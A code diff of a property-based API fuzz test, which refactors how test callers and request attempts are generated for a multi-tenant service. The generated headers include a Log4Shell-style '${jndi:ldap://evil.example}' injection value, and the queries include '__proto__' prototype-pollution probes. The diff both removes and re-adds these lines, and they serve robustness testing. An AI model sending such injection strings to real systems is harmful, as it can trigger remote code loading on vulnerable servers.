@@ -12,6 +12,7 @@ import { ADMIN, OWNER, USER } from '../testing/fixtures.ts'
 import type { Reply } from '../testing/httpClient.ts'
 import { isThorough } from '../testing/thorough.ts'
 import { payingFixture } from '../testing/stripeFixture.ts'
+import { attemptsOf } from './attempts.fixture.ts'
 import { entryOf, methodAndPath, type Signature, SIGNATURES } from './calls/index.ts'
 
 const RUNS = isThorough ? 10_000 : 308
@@ -22,15 +23,15 @@ const HANGING_MS = 60_000
 
 const TAGS = [...new Set(SIGNATURES.map((signature) => entryOf(signature).tag))]
 
-const CALLERS = {
-  'owner@northwind': ['4821', OWNER],
-  'admin@northwind': ['4821', ADMIN],
-  'user@northwind': ['4821', USER],
-  'owner@bluefin': ['1001', 'owner@bluefin.example'],
-  workspace: null,
-  nobody: null,
-} as const
-type Caller = keyof typeof CALLERS
+const CALLER_NAMES = [
+  'owner@northwind',
+  'admin@northwind',
+  'user@northwind',
+  'owner@bluefin',
+  'workspace',
+  'nobody',
+] as const
+type Caller = (typeof CALLER_NAMES)[number]
 
 const BodySchema = v.pipe(
   v.string(),
@@ -46,10 +47,37 @@ interface Attempt {
   readonly headers: Readonly<Record<string, string>>
 }
 
+const callsOf = (examples: readonly unknown[], known: readonly string[]): fc.Arbitrary<Attempt> => {
+  const part = addressPartOf(known)
+  return fc.record<Attempt>({
+    who: fc.constantFrom(...CALLER_NAMES),
+    parts: fc.array(part, { minLength: 2, maxLength: 2 }),
+    query: fc.oneof(
+      { weight: 3, arbitrary: fc.constant('') },
+      fc
+        .tuple(fc.constantFrom('since', 'serviceid', 'lang', '__proto__', 'a[]'), part)
+        .map(([name, value]) => `?${name}=${value}`),
+    ),
+    body: bodiesOf(examples, known),
+    headers: fc.oneof(
+      { weight: 5, arbitrary: fc.constant({}) },
+      fc.constantFrom<Readonly<Record<string, string>>>(
+        { 'Content-Type': 'text/plain' },
+        { 'Content-Type': 'application/json; charset=utf-16' },
+        { 'If-None-Match': '"x", W/"y", *' },
+        { 'Accept-Language': '*;q=x,en-US-u-co-\u00FF' },
+        { 'X-Request-Id': '${jndi:ldap://evil.example}' },
+        { Cookie: 'portico_device=%00; =;;' },
+      ),
+    ),
+  })
+}
+
 describe('generated bodies', { timeout: TIMEOUT_MS }, () => {
   onBothDatabases('end in an answer, and write nothing past a rule,', (open) => {
     const fixture = payingFixture(open)
     const { call, db, list, logIn, reset } = fixture
+    const { bodiesOf: exampleBodiesOf } = attemptsOf(fixture)
     const tokens = new Map<Caller, string>()
 
     const ownersOf = () =>
@@ -96,12 +124,12 @@ describe('generated bodies', { timeout: TIMEOUT_MS }, () => {
     /** Generated calls sign out, lock and remove users. */
     const sessionOf = async (who: Caller): Promise<{ readonly token?: string }> => {
       if (who === 'workspace') return { token: await fixture.workspaceKey() }
-      const person = CALLERS[who]
-      if (person === null) return {}
+      if (who === 'nobody') return {}
       const known = tokens.get(who)
       if (known !== undefined && (await call('/api/auth/userdata', { token: known })).status === 200)
         return { token: known }
-      const [accountId, email] = person
+      const accountId = who === 'owner@bluefin' ? '1001' : '4821'
+      const email = `${who}.example`
       let reply = await logIn(accountId, email)
       if (reply.status !== 200) {
         await expectRulesSatisfied()
@@ -131,39 +159,6 @@ describe('generated bodies', { timeout: TIMEOUT_MS }, () => {
       return answered
     }
 
-    const attemptsOf = (signature: Signature, known: readonly string[]): fc.Arbitrary<Attempt> => {
-      const part = addressPartOf(known)
-      return fc.record<Attempt>({
-        who: fc.constantFrom<Caller>(
-          'owner@northwind',
-          'admin@northwind',
-          'user@northwind',
-          'owner@bluefin',
-          'workspace',
-          'nobody',
-        ),
-        parts: fc.array(part, { minLength: 2, maxLength: 2 }),
-        query: fc.oneof(
-          { weight: 3, arbitrary: fc.constant('') },
-          fc
-            .tuple(fc.constantFrom('since', 'serviceid', 'lang', '__proto__', 'a[]'), part)
-            .map(([name, value]) => `?${name}=${value}`),
-        ),
-        body: bodiesOf(entryOf(signature).request ?? null, known),
-        headers: fc.oneof(
-          { weight: 5, arbitrary: fc.constant({}) },
-          fc.constantFrom<Readonly<Record<string, string>>>(
-            { 'Content-Type': 'text/plain' },
-            { 'Content-Type': 'application/json; charset=utf-16' },
-            { 'If-None-Match': '"x", W/"y", *' },
-            { 'Accept-Language': '*;q=x,en-US-u-co-\u00FF' },
-            { 'X-Request-Id': '${jndi:ldap://evil.example}' },
-            { Cookie: 'portico_device=%00; =;;' },
-          ),
-        ),
-      })
-    }
-
     it('also for invalid or unexpected JSON', async () => {
       await begin()
       const attempt = { parts: ['x'], query: '', headers: {} } as const
@@ -181,6 +176,12 @@ describe('generated bodies', { timeout: TIMEOUT_MS }, () => {
     })
 
     it.each(TAGS)('of %s', async (tag) => {
+      const signatures = SIGNATURES.filter((one) => entryOf(one).tag === tag)
+      const examples = new Map<Signature, readonly unknown[]>()
+      for (const signature of signatures.filter((one) => entryOf(one).request)) {
+        examples.set(signature, await exampleBodiesOf(signature))
+        await reset()
+      }
       tokens.clear()
       await begin()
       expect((await ownersOf()).every(({ status }) => status === MemberStatus.active)).toBe(true)
@@ -188,8 +189,8 @@ describe('generated bodies', { timeout: TIMEOUT_MS }, () => {
         ({ id }) => id,
       )
       const known = [...workspaces.slice(0, 4), workspaces.at(-1) ?? '', '4821', '1001', OWNER, ADMIN, USER]
-      for (const signature of SIGNATURES.filter((one) => entryOf(one).tag === tag)) {
-        const answers = fc.asyncProperty(attemptsOf(signature, known), async (attempt) => {
+      for (const signature of signatures) {
+        const answers = fc.asyncProperty(callsOf(examples.get(signature) ?? [], known), async (attempt) => {
           const reply = await send(signature, attempt)
           expect(reply.status).toBeLessThan(500)
           if (reply.status !== 304) v.parse(BodySchema, reply.text)
